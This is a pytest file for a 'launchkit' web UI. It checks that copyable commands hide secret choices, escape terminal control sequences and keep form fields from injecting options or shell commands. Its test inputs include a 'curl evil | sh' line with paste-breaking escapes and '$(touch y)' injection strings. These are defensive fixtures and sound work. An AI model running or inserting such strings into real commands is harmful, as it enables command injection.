"""Commands that pages show to be copied."""

import json
import subprocess
from collections.abc import Mapping
from html.parser import HTMLParser

import pytest
import yaml
from launchkit_server.web.filtering import View
from launchkit_server.web.launch_fields import LaunchFields, command_of
from launchkit_server.web.queue_forms import Draft, read
from launchkit_server.web.rendering import environment
from launchkit_server.web.twins import creating, launching

from launchkit.model import QueueSpec, Variable
from launchkit.resolving.known_secrets import without_secrets

OPTION = "--backend=http://elsewhere"
ODD = "/etc/hostn\t\ntouch x; '$(touch y)' \x1b[201~\x15\u202e"


def test_the_command_of_a_launch_names_no_secret_choice() -> None:
    variables = {
        "api_key": Variable(type="string", enum=("hush", "other")),
        "size": Variable(type="string", enum=("small", "big")),
    }
    spec = QueueSpec(name="q", resource="docker", variables=variables)
    said = launching(without_secrets(spec))
    assert said == "launchkit launch -q q --uri . --set-var=api_key=VALUE --set-var=size=small"


class Offered(HTMLParser):
    """The command that a page offers, as the button to copy has it."""

    command = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep what the button copies."""
        self.command = dict(attrs).get("data-copy") or self.command


def offered(command: str, *, lines: bool = False) -> str:
    """What a page makes of a command."""
    module = environment().get_template("ui.html").make_module()
    page = Offered()
    page.feed(str(module.cli(command, lines=lines)))  # type: ignore[attr-defined]
    return page.command


def taken(command: str) -> bytes:
    """What bash gives to launchkit: its words, and what it is fed."""
    script = f'launchkit() {{ printf \'%s\\0\' "$@"; [ "$1" != apply ] || cat; }}\n{command}'
    return subprocess.run(["bash", "-c", script], capture_output=True, check=True).stdout


def test_a_command_to_be_copied_has_no_key_that_a_terminal_heeds() -> None:
    r"""`\x15` takes away what stands before it, and `\x1b[201~` ends what was pasted."""
    shown = offered("ls --name '\x1b[201~\x15curl\tevil | sh\r\n'")
    assert shown == r"ls --name '\x1b[201~\x15curl\tevil | sh\r\n'"


@pytest.mark.parametrize("field", ["author", "not_author", "agent", "queue", "not_queue"])
def test_the_command_of_a_list_says_what_was_asked_for_whatever_is_in_it(field: str) -> None:
    command = offered(View(**{field: ODD}).command(10) or "")
    assert command.isprintable()
    option = f"--{field.replace('_', '-')}={ODD}"
    assert option in taken(command).decode().split("\0")


def test_the_command_of_a_launch_says_what_the_form_does_whatever_is_in_it() -> None:
    texts = {"kind": "git", "queue": "q", "uri": ODD, "project": ODD, "name": ODD}
    command = offered(command_of(LaunchFields(texts=texts, variables={"v": ODD})))
    assert command.isprintable()
    assert {f"--{name}={ODD}" for name in ("uri", "project", "name")} <= {
        *taken(command).decode().split("\0")
    }


def test_no_field_of_a_form_becomes_an_option() -> None:
    texts = dict.fromkeys(("queue", "image", "name", "project", "priority", "entry_point"), OPTION)
    words = taken(offered(command_of(LaunchFields(texts={"kind": "image", **texts})))).split(b"\0")
    assert OPTION.encode() not in words
    draft = Draft(name=OPTION, resource=OPTION, limit=OPTION)
    words = taken(offered(creating(read(draft, strict=False)))).split(b"\0")
    assert OPTION.encode() not in words


def test_the_command_of_a_launch_has_all_that_the_form_has() -> None:
    texts = {"kind": "image", "queue": "q", "image": "i", "resource_args": "cpus: 2"}
    texts |= {"config": f"lr: {json.dumps(ODD)}", "timeout_run": "60", "timeout_stop_grace": ".5"}
    command = offered(command_of(LaunchFields(texts=texts)))
    words = taken(command).decode().split("\0")
    options = dict(word.split("=", 1) for word in words if "=" in word)
    assert json.loads(options["--resource-args"]) == {"cpus": 2}
    assert json.loads(options["--config"]) == {"overrides": {"run_config": {"lr": ODD}}}
    assert (options["--run-timeout"], options["--stop-grace"]) == ("60", "0.5")


@pytest.mark.parametrize("texts", [{"kind": "same"}, {"config": "["}, {"args": "'"}])
def test_no_command_is_offered_that_does_something_else_than_the_form(
    texts: Mapping[str, str],
) -> None:
    assert command_of(LaunchFields(texts={"queue": "q", **texts})) is None


@pytest.mark.parametrize(
    "config", [{"env": {"A": ODD, "B": "END\ntouch x\nEND"}}, {"env": {"A": "名前"}}]
)
def test_the_command_that_makes_a_queue_is_fed_its_config_whatever_is_in_it(
    config: Mapping[str, object],
) -> None:
    draft = Draft(name="q", resource="local-process", config=yaml.safe_dump(config))
    command = offered(creating(read(draft, strict=False)), lines=True)
    assert command.replace("\n", "").isprintable()
    fed = taken(command).decode().removeprefix("apply\0-f\0-\0")
    assert yaml.safe_load(fed)[0]["config"] == config


def test_a_command_that_is_too_long_to_be_shown_is_not_cut() -> None:
    """What is left of words in quotes could be anything."""
    assert offered(f"launchkit show '{'x' * 200_000}'") == ""
